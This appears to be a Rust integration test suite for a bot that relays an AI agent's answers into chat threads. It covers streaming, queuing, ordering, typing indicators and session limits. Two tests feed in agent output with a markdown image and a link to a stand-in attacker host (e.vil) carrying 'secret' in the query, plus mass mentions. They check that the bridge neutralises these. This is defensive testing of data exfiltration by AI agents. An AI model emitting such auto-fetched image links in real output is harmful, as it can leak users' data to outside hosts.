//! From a message to its answer.

use gaggle_ipc::session::{Before, ToolState, TurnEnd};

use crate::fake::Did;
use crate::world::{World, user};

#[tokio::test(flavor = "multi_thread")]
async fn an_answer_streams_into_one_post_and_ends_without_trace() {
    let mut world = World::new().await;
    let root = world.ask("list my files");
    let asked = world.supervisor.asked().await;
    assert_eq!((asked.text.as_str(), asked.user), ("list my files", user(&world.alice)));
    world.says(root, "Thinking...").await;
    asked.ready().think("secret").tool(1, ToolState::Running, "shell · ls");
    world.says(root, "Thinking... [shell · ls]").await;
    asked.say("Two ");
    world.says(root, "Two\n\nThinking... [shell · ls]").await;
    asked.say("files.").end(TurnEnd::Complete);
    let post = world.says(root, "Two files.").await;
    assert_eq!(world.texts(root).len(), 1);
    assert_eq!(post.props["from_bot"], "true");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_direct_message_needs_no_mention() {
    let mut world = World::new().await;
    let direct = world.sim.direct_channel(world.alice.id, world.bot.id).unwrap();
    let root = world.sim.post(world.alice.id, direct, "hello").unwrap();
    let asked = world.supervisor.asked().await;
    assert_eq!(asked.text, "hello");
    asked.answer("Hi.");
    world.says(root, "Hi.").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_second_message_waits_its_turn_and_says_so() {
    let mut world = World::new().await;
    let root = world.ask("first");
    let first = world.supervisor.asked().await;
    first.ready();
    // In the bot's own thread no mention is needed.
    world.sim.reply(world.alice.id, root, "second").unwrap();
    world.answer(root, |post| post.message.starts_with("Queued")).await;
    assert!(world.supervisor.done().is_none(), "the second turn began too early");
    first.say("one").end(TurnEnd::Complete);
    let second = world.supervisor.asked().await;
    assert_eq!((second.text.as_str(), second.before), ("second", Before::Complete));
    assert_eq!(second.resume, gaggle_ipc::GooseSession::new(&format!("s_{}", first.turn.0)).ok());
    second.answer("two");
    world.says(root, "two").await;
    assert_eq!(world.texts(root), ["one", "two"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn answers_stand_in_the_order_of_the_questions_even_if_the_worker_is_slow() {
    let mut world = World::new().await;
    // While it is open whether alice has a worker, nothing is shown.
    world.supervisor.hold(true);
    let root = world.ask("first");
    world.sim.reply(world.alice.id, root, "@goosebot second").unwrap();
    world.answer(root, |post| post.message.starts_with("Queued")).await;
    world.supervisor.hold(false);
    world.supervisor.asked().await.answer("one");
    world.supervisor.asked().await.answer("two");
    world.says(root, "two").await;
    assert_eq!(world.texts(root), ["one", "two"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn somebody_else_in_the_thread_has_a_worker_of_their_own() {
    let mut world = World::new().await;
    let root = world.ask("mine");
    let alices = world.supervisor.asked().await;
    alices.ready();
    // Without a mention bob talks to alice, not to the bot.
    world.sim.reply(world.bob.id, root, "not for the bot").unwrap();
    world.sim.reply(world.bob.id, root, "@goosebot his").unwrap();
    let bobs = world.supervisor.asked().await;
    assert_eq!((bobs.parts().1, bobs.user), ("his", user(&world.bob)));
    assert_eq!((bobs.thread, &bobs.resume), (alices.thread, &None));
    bobs.answer("for bob");
    world.says(root, "for bob").await;
    alices.say("for alice").end(TurnEnd::Complete);
    world.says(root, "for alice").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn forty_thousand_characters_come_whole_and_in_order() {
    let mut world = World::new().await;
    let root = world.ask("much");
    let asked = world.supervisor.asked().await;
    let words: Vec<String> = (0..8000).map(|n| format!("w{n:04}")).collect();
    asked.answer(&words.join(" "));
    world.answer(root, |post| post.message.ends_with("w7999")).await;
    world.answer(root, |post| post.message.starts_with("w0000")).await;
    let texts = world.texts(root).join(" ");
    assert_eq!(texts.split_whitespace().collect::<Vec<_>>(), words);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_agent_writes_notifies_and_fetches_nothing() {
    let mut world = World::new().await;
    let root = world.ask("news");
    let asked = world.supervisor.asked().await;
    asked.answer("@channel look ![x](http://e.vil/?q=secret) `@all`");
    let want = "@\u{200b}channel look `!\u{200b}[x](http://e.vil/?q=secret)` `@all`";
    world.says(root, want).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn links_to_hosts_that_the_admin_lists_stay_links() {
    let mut world = World::prepare().await;
    world.toml("link_hosts = [\"docs.example\"]");
    world.start().await;
    world.reading().await;
    let root = world.ask("where?");
    world.supervisor.asked().await.answer("[here](https://docs.example/a) not https://e.vil/?q=x");
    world.says(root, "[here](https://docs.example/a) not `https://e.vil/?q=x`").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_long_turn_ends_with_a_new_post_that_names_the_person() {
    let mut world = World::prepare().await;
    world.long = std::time::Duration::ZERO;
    world.start().await;
    world.reading().await;
    let root = world.ask("slow");
    let asked = world.supervisor.asked().await;
    asked.ready().tool(1, ToolState::Completed, "shell · make");
    world.says(root, "Thinking... [✅ shell · make]").await;
    asked.say("Done.").end(TurnEnd::Complete);
    world.says(root, "@alice\n\nDone.").await;
    let left = world.answer(root, |post| post.message.starts_with("*Worked for")).await;
    assert!(left.message.contains("1 action"));
    assert_eq!(world.texts(root).len(), 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_bot_is_shown_as_typing_until_there_is_something_to_read() {
    let mut world = World::prepare().await;
    world.typing = std::time::Duration::from_millis(30);
    world.start().await;
    world.reading().await;
    let typed = |world: &World| {
        let requests = world.sim.requests();
        requests.get("POST /users/me/typing").copied().unwrap_or_default()
    };
    let root = world.ask("slow");
    let asked = world.supervisor.asked().await;
    asked.ready().tool(1, ToolState::Running, "shell · make");
    // Again and again, as long as it takes.
    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(20);
    while typed(&world) < 5 {
        assert!(tokio::time::Instant::now() < deadline, "typed {} times", typed(&world));
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    }
    asked.say("half");
    world.answer(root, |post| post.message.starts_with("half")).await;
    let then = typed(&world);
    // Many edits later there was none but one that was under way.
    for word in 0..10 {
        asked.say(&format!(" {word}"));
        world.answer(root, |post| post.message.contains(&format!(" {word}"))).await;
    }
    assert!(typed(&world) <= then + 1);
    asked.end(TurnEnd::Complete);
    world.answer(root, |post| post.message.ends_with(" 9")).await;
    world.settle().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn full_trace_stands_in_an_attachment_that_edits_keep() {
    let mut world = World::prepare().await;
    world.set("GOOSE_THINKING_TRACE", "true");
    world.set("GOOSE_THINKING_TRACE_SIMPLIFIED", "false");
    world.start().await;
    world.reading().await;
    let root = world.ask("x");
    let asked = world.supervisor.asked().await;
    asked.ready().think("a thought").tool(1, ToolState::Completed, "shell · ls");
    asked.say("Done.").end(TurnEnd::Complete);
    let post = world.says(root, "Done.").await;
    let shown = post.props["attachments"].to_string();
    assert!(shown.contains("a thought") && shown.contains("shell · ls"));
    assert_eq!(post.props["from_bot"], "true");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_thread_unused_longest_is_set_aside() {
    let mut world = World::prepare().await;
    world.set("MAX_SESSIONS", "1");
    world.start().await;
    world.reading().await;
    let first = world.ask("one");
    let asked = world.supervisor.asked().await;
    let thread = asked.thread;
    asked.answer("1");
    world.says(first, "1").await;
    let second = world.ask("two");
    let (mut closed, mut answered) = (None, false);
    while closed.is_none() || !answered {
        match world.supervisor.next().await {
            Did::Closed(thread) => closed = Some(thread),
            Did::Asked(asked) => {
                asked.answer("2");
                answered = true;
            }
            other => panic!("{other:?}"),
        }
    }
    assert_eq!(closed, Some(thread));
    world.says(second, "2").await;
    // It goes on where it was.
    world.sim.reply(world.alice.id, first, "more").unwrap();
    loop {
        if let Did::Asked(asked) = world.supervisor.next().await {
            assert!(asked.resume.is_some());
            return;
        }
    }
}
